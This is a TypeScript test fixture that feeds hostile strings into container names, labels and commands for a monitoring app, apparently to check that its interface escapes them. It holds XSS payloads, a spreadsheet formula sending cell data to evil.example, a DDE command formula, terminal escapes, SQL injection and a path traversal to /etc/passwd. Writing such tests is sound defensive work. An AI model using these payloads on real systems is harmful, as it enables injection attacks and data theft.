import { blueprintOf, type Recipe } from "@/server/domain/simulation/blueprint-of";
import type { Blueprint } from "@/server/domain/simulation/workload";

const MIB = 1024 ** 2;
const MINUTE_MS = 60_000;

/** What whoever starts a container might write where PFN shows it: each would do something if it were not only text. */
export const PAYLOADS = [
  `<img src=x onerror="window.__hit='img'">`,
  `"><script>window.__hit='script'</script>`,
  `javascript:window.__hit='href'//`,
  `'-window.__hit='quote'-'`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would fill in.
  "${window.__hit='template'}{{constructor.constructor('window.__hit=1')()}}",
  `</title></textarea><svg onload=window.__hit='svg'>`,
  `=HYPERLINK("http://evil.example/?x="&A1,"open")`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  "\u001b[2J\u001b]0;owned\u0007\r\nroot# ",
  "'; drop table container; --",
  "\u202egnp.exe\u2066 __proto__ constructor",
  "../../../etc/passwd\u0000.json",
] as const;

/** A fleet of them: in the name, the image, the labels and the command; the first two are about to fail. */
export const HOSTILE_BLUEPRINTS: readonly Blueprint[] = PAYLOADS.map(
  (payload, nth): Recipe => ({
    name: payload,
    image: `evil/${payload}:1`,
    project: payload,
    labels: { "pfn.mode": payload, "pfn.threshold": payload, [payload]: payload },
    command: ["sh", "-c", payload],
    cpu: 500,
    memoryMib: 512,
    restMib: 96,
    load: [22, 5],
    ...(nth < 2
      ? {
          behaviour: { kind: "leak", bytesPerMinute: 3.1 * MIB, dueAfterMs: (13 + nth) * MINUTE_MS } as const,
        }
      : {}),
  }),
).map(blueprintOf);
